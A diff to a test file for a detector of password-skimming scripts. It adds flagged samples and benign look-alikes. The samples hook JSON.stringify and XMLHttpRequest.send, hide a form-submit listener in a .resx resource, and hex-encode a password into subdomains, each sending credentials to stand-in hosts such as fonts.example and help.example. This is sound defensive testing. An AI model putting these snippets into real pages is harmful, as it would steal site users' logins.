@@ -32,8 +32,43 @@ const STATISTICS =
   'var u = "https://HOST/"; var g = document.createElement("script"); g.src = u + "matomo.js"; document.body.appendChild(g);';
 const statistics = (host: string) => logon(`<script>${STATISTICS.replace('HOST', host)}</script>`);
 
+const HOOK =
+  '(function(J){var o=J.stringify;J.stringify=function(v){var r=o.apply(J,arguments);if(v&&v.password){(new Image).src="https://HOST/css?f="+encodeURIComponent(btoa(r))}return r}})(JSON);';
+const SENDER =
+  'XMLHttpRequest.prototype.send = function (body) { if (/password/.test(body)) navigator.sendBeacon("https://fonts.example/b", body); return sent.apply(this, arguments); };';
+const vendor = {
+  context: { artifact: fakeArtifact({ windowsPath: 'D:\\sites\\shop\\js\\vendor.js' }), names: ['shop.corp.example'] },
+};
+const resource = (text: string) =>
+  inlinePage('resx', `<?xml version="1.0"?>\n<root>\n<data name="Help"><value>${text}</value></data>\n</root>`);
+const TAKES =
+  "document.addEventListener('submit',function(e){var f=e.target;fetch('https://help.example/q',{method:'POST',body:f.txtUser.value+'~'+f.txtPassword.value})},true)";
+
 testDetector(detector, {
   hits: [
+    {
+      name: 'a host whose name is made of pieces of the password, which jQuery goes through',
+      input: signIn(
+        'function hex(s) { var r = ""; for (var i = 0; i < s.length; i++) r += s.charCodeAt(i).toString(16); return r; } function go() { var d = hex($("#password").val()).match(/.{1,60}/g); $.each(d, function (i, part) { new Image().src = "//" + i + "." + part + ".q.example/f"; }); }',
+      ),
+      ...application,
+      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
+    },
+    {
+      name: 'functions that every script calls, replaced by ones that look for a password',
+      input: inlinePage('js', `${HOOK.replace('HOST', 'fonts.example')}\n${SENDER}`),
+      ...vendor,
+      detections: [
+        { message: 'sent', at: { line: 1 }, severity: 'high' },
+        { message: 'sent', at: { line: 2 }, severity: 'high' },
+      ],
+    },
+    {
+      name: 'script in the text of a resource, which a page prints as it is',
+      input: resource(`Questions?&lt;script&gt;${TAKES}&lt;/script&gt;`),
+      ...lying('D:\\sites\\shop\\App_GlobalResources\\Login.resx'),
+      detections: [{ message: 'sent', at: { line: 3 }, severity: 'high' }],
+    },
     {
       name: 'statistics of a host of the company, and of others: of somebody, of the server itself, of a suffix that many share',
       input: statistics('stats.corp.example'),
@@ -264,6 +299,32 @@ testDetector(detector, {
         `<%@ Page Inherits="Microsoft.Exchange.HttpProxy.Logon, Microsoft.Exchange.FrontEndHttpProxy" %>\n${FORM}`,
       ),
       ...page,
+      looksAlike: true,
+    },
+    {
+      name: 'a function that is wrapped for the company’s own monitoring, and one that measures without looking for a password',
+      input: inlinePage(
+        'js',
+        `${HOOK.replace('HOST', 'apm.corp.example')}\nvar f = window.fetch; window.fetch = function (u, o) { navigator.sendBeacon("https://apm.example/t", u); return f(u, o); };`,
+      ),
+      ...vendor,
+      looksAlike: true,
+    },
+    {
+      name: 'a function that is filled in for old browsers, beside a check of a password',
+      input: inlinePage(
+        'js',
+        'if (!JSON.stringify) JSON.stringify = function (v) { return String(v); };\nfunction check(f) { return f.password.length > 7; }\nnew Image().src = "https://pixel.example/p.gif";',
+      ),
+      ...vendor,
+      looksAlike: true,
+    },
+    {
+      name: 'markup and script of a resource that go nowhere',
+      input: resource(
+        '&lt;b&gt;Help&lt;/b&gt;&lt;script&gt;document.getElementById("password").focus();&lt;/script&gt;',
+      ),
+      ...lying('D:\\sites\\shop\\App_GlobalResources\\Login.resx'),
       looksAlike: true,
     },
     {
